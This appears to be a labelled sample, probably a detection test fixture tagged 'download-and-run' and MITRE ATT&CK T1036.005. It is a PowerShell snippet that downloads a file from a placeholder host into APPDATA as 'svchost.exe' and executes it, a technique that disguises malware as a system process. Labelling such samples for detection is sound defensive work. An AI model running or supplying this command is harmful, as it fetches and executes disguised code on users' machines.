# expect: download-and-run | source: MITRE ATT&CK T1036.005
$get = @{ Uri = 'http://files.example.invalid/x'; OutFile = "$env:APPDATA\svchost.exe" }
Invoke-WebRequest @get
& "$env:APPDATA\svchost.exe"
